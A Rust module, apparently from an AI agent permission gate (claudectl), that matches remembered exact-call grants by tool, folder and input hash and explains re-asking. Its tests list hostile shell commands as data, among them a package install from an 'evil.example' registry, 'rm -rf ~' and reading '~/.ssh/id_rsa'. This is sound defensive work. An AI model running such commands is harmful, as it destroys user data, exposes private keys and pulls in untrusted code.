//! Exactly the same call: what an answer is about that a person keeps for longer than once.
//!
//! It is known by the tool, by the folder in which it is made, and by a hash of what the tool is given. Nothing that is
//! only like it is the same: another option, another file, another address are another call.

use claudectl_fleet::tools::Family;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::judge::{Layer, Mode, Verdict};
use crate::rules::{Action, Circumstances};

/// A call that is meant, and none like it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Exactly {
    /// The tool, by its exact name.
    pub tool: String,
    /// The working folder, as the host names it.
    pub folder: String,
    /// [`of_input`].
    pub input: String,
    /// What it is about, for a person: redacted, one line.
    pub text: String,
}

impl Exactly {
    /// Whether a call is this one.
    #[must_use]
    pub fn is(&self, call: &Circumstances) -> bool {
        // What nobody has looked at is no call.
        !call.input.is_empty()
            && self.input == call.input
            && self.tool == call.tool
            && self.folder == call.folder
    }
}

/// What does not say what a shell runs: a title for the person, and how long it is waited for.
const ASIDE: &[&str] = &["description", "timeout"];

/// What a tool is given, as a hash (BLAKE3, hexadecimal). The order of its fields says nothing; of a command neither does
/// what is beside it.
#[must_use]
pub fn of_input(tool: &str, input: &Value) -> String {
    let mut hasher = blake3::Hasher::new();
    match input {
        Value::Object(fields) if Family::Shell.has(tool) => {
            let fields = fields.iter().filter(|(key, _)| !ASIDE.contains(&key.as_str()));
            take(
                &Value::Object(fields.map(|(key, field)| (key.clone(), field.clone())).collect()),
                &mut hasher,
            );
        }
        input => take(input, &mut hasher),
    }
    hasher.finalize().to_hex().to_string()
}

/// Each part with its kind and its length, so that no two inputs are taken in alike.
fn take(value: &Value, hasher: &mut blake3::Hasher) {
    let mut part = |kind: u8, text: &[u8]| {
        hasher.update(&[kind]);
        hasher.update(&(text.len() as u64).to_le_bytes());
        hasher.update(text);
    };
    match value {
        Value::Null => part(b'n', b""),
        Value::Bool(is) => part(b'b', &[u8::from(*is)]),
        Value::Number(number) => part(b'#', number.to_string().as_bytes()),
        Value::String(text) => part(b's', text.as_bytes()),
        Value::Array(items) => {
            part(b'[', &(items.len() as u64).to_le_bytes());
            items.iter().for_each(|item| take(item, hasher));
        }
        Value::Object(fields) => {
            part(b'{', &(fields.len() as u64).to_le_bytes());
            let mut fields: Vec<(&String, &Value)> = fields.iter().collect();
            fields.sort_unstable_by_key(|(key, _)| *key);
            for (key, field) in fields {
                hasher.update(&(key.len() as u64).to_le_bytes());
                hasher.update(key.as_bytes());
                take(field, hasher);
            }
        }
    }
}

/// Why a call is asked about again though exactly this one was allowed for longer: `verdict` is what is said of it then,
/// and `said` what of that the host is told. `None` where it is allowed.
#[must_use]
pub fn why_once(verdict: &Verdict, said: Option<Action>, gate: Mode) -> Option<String> {
    let reason = &verdict.reason;
    Some(match (verdict.action, verdict.layer) {
        // What only observes says nothing of anything, and keeps what it would have said.
        (Action::Allow, _) if said == Some(Action::Allow) || gate == Mode::Observe => return None,
        (Action::Allow, _) => {
            "Claude Code asks about it in its own mode, whatever the gate allows".to_owned()
        }
        (_, Layer::Budget) => format!("no kept answer lifts a budget, only a raise does: {reason}"),
        (_, Layer::Pause) => format!("a pause asks about each call: {reason}"),
        (_, Layer::Policy) => format!("no answer of yours lifts the repository's policy: {reason}"),
        (_, Layer::Rule | Layer::Grant) => match &verdict.rule {
            Some(rule) => format!("your rule {rule} asks, and ask beats allow: {reason}"),
            None => reason.clone(),
        },
        (_, Layer::Facts) => format!("it is asked about as long as that is so: {reason}"),
        (_, Layer::Opaque) => format!("what cannot be understood may be another call each time: {reason}"),
        (_, Layer::Effects | Layer::Learned) => reason.clone(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::{Policy, judge};
    use crate::rules::{Maker, Rule};
    use crate::tools;
    use claudectl_shell::facts::{NoFacts, Place};
    use serde_json::json;

    fn call(tool: &str, input: &Value) -> Circumstances {
        Circumstances {
            tool: tool.to_owned(),
            root: "/home/me/w".to_owned(),
            folder: "/home/me/w".to_owned(),
            input: of_input(tool, input),
            ..Circumstances::default()
        }
    }

    fn kept(tool: &str, input: &Value, action: Action) -> Policy {
        let exactly = Exactly {
            tool: tool.to_owned(),
            folder: "/home/me/w".to_owned(),
            input: of_input(tool, input),
            text: String::new(),
        };
        let rule =
            Rule { name: "g1".to_owned(), exactly: Some(exactly), action: Some(action), ..Rule::default() };
        Policy { rules: vec![(Maker::Grant, rule)], ..Policy::default() }
    }

    fn verdict(tool: &str, input: &Value, policy: &Policy, call: &Circumstances) -> Verdict {
        let place =
            Place { home: "/home/me", folder: Some("/home/me/w"), root: Some("/home/me/w"), facts: &NoFacts };
        judge(&tools::report(tool, input, place), policy, call)
    }

    #[test]
    fn what_is_kept_is_about_that_call_and_none_like_it() {
        let bash = |command: &str| ("Bash", json!({ "command": command }));
        let table = [
            (bash("rm src/a.txt"), bash("rm -rf src/a.txt src")),
            (bash("npm install lodash"), bash("npm install lodash --registry https://evil.example")),
            (bash("git commit --amend"), bash("git commit --amend --no-verify")),
            (bash("make deploy ENV=a"), bash("make deploy ENV=a ENV=b")),
            (bash("unheard-of x"), bash("unheard-of  x")),
            (bash("unheard-of x"), ("Bash", json!({"command": "unheard-of x", "run_in_background": true}))),
            (bash("unheard-of x"), ("PowerShell", json!({"command": "unheard-of x"}))),
            (
                ("WebFetch", json!({"url": "https://a.example/x", "prompt": "p"})),
                ("WebFetch", json!({"url": "https://b.example/x", "prompt": "p"})),
            ),
            (("mcp__x__echo", json!({"text": "hello"})), ("mcp__x__echo", json!({"text": "hello", "to": 1}))),
            (("mcp__x__echo", json!({"text": "hello"})), ("mcp__x__echo", json!({"text": ["hello"]}))),
            (
                ("Write", json!({"file_path": "a", "content": "b"})),
                ("Write", json!({"file_path": "a", "content": "c"})),
            ),
        ];
        for ((tool, input), (other_tool, other)) in table {
            let policy = kept(tool, &input, Action::Allow);
            let same = verdict(tool, &input, &policy, &call(tool, &input));
            assert_eq!((same.action, same.rule.as_deref()), (Action::Allow, Some("g1")), "{input}");
            let like = verdict(other_tool, &other, &policy, &call(other_tool, &other));
            assert_eq!((like.action, like.rule), (Action::Ask, None), "{input} {other}");
            let denies = kept(tool, &input, Action::Deny);
            assert_eq!(verdict(tool, &input, &denies, &call(tool, &input)).action, Action::Deny, "{input}");
            let like = verdict(other_tool, &other, &denies, &call(other_tool, &other));
            assert_eq!(like.action, Action::Ask, "{input} {other}");
        }
    }

    #[test]
    fn what_says_nothing_of_what_is_run_may_differ() {
        let (one, other) = (
            json!({"command": "unheard-of", "description": "a", "timeout": 5}),
            json!({"timeout": 6, "command": "unheard-of"}),
        );
        assert_eq!(of_input("Bash", &one), of_input("Bash", &other));
        assert_ne!(of_input("mcp__x__run", &one), of_input("mcp__x__run", &other));
        let nested =
            [json!({"a": {"b": 1, "c": 2}}), json!({"a": {"c": 2, "b": 1}}), json!({"a": {"b": 1}, "c": 2})];
        let hashes = nested.map(|input| of_input("mcp__x__run", &input));
        assert!(hashes[0] == hashes[1] && hashes[0] != hashes[2], "{hashes:?}");
        // In another folder its files are others; and of what nobody looked at nothing is the same.
        let policy = kept("Bash", &one, Action::Allow);
        let elsewhere = Circumstances { folder: "/home/me/w/sub".to_owned(), ..call("Bash", &one) };
        assert_eq!(verdict("Bash", &one, &policy, &elsewhere).action, Action::Ask);
        let unread = Circumstances { input: String::new(), ..call("Bash", &one) };
        assert_eq!(verdict("Bash", &one, &policy, &unread).action, Action::Ask);
    }

    #[test]
    fn what_is_kept_lifts_no_refusal_and_nothing_that_is_not_understood() {
        for (command, action) in [
            ("rm -rf ~", Action::Deny),
            ("X=$(date); $X", Action::Ask),
            ("cp x ~/.bashrc", Action::Allow),
            ("cat ~/.ssh/id_rsa", Action::Allow),
            ("make > out.txt", Action::Allow),
        ] {
            let input = json!({ "command": command });
            let policy = kept("Bash", &input, Action::Allow);
            let found = verdict("Bash", &input, &policy, &call("Bash", &input));
            assert_eq!(found.action, action, "{command}: {found:?}");
            let said = Some(found.action);
            assert_eq!(why_once(&found, said, Mode::On).is_none(), action == Action::Allow, "{command}");
        }
        let allowed =
            verdict("Bash", &json!({"command": "ls"}), &Policy::default(), &Circumstances::default());
        assert_eq!(why_once(&allowed, None, Mode::Observe), None);
        assert!(why_once(&allowed, None, Mode::On).is_some_and(|why| why.contains("its own mode")));
    }
}
